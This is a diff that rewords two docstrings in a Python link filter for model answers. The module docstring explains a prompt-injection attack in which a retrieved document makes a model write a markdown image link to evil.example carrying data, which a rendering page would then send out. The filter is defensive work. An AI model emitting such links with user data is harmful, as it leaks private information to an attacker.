@@ -1,4 +1,4 @@
-"""Link filter: only addresses of the chunks stay in answers, and no image loads by itself.
+"""Link filter: only addresses of the chunks stay in answers, and no image loads on its own.
 
 A document can make a model write ``![](https://evil.example/?q=...)`` with data from elsewhere; a page that
 shows the answer would send it there. So an address that occurs in no chunk is removed, and an image of a
@@ -181,7 +181,7 @@ class LinkFilter:
         return self._remove("", title.end() if title else end)
 
     def _inside(self, bracket: str, start: int, *, is_empty: bool) -> _Step:
-        """Return the bracket before a local destination, from which no image must load by itself either."""
+        """Return the bracket before a local destination, from which no image must load on its own either."""
         if self._in_image and not is_empty:
             return self._remove(" (", start + 1)
         return bracket, start + 1
